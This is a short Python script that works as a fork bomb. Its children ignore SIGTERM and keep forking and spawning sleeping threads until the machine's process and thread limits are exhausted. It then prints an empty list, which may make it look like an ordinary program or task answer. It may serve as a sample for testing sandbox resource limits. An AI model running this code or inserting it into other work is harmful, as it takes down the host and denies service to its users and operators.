# Makes as many processes and threads as it gets, and keeps all of them.
import os, signal, threading, time

refused = 0
while refused < 300:
    try:
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            while True:
                try:
                    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
                    os.fork()
                except (OSError, RuntimeError):
                    time.sleep(0.001)
    except OSError:
        refused += 1
print([])
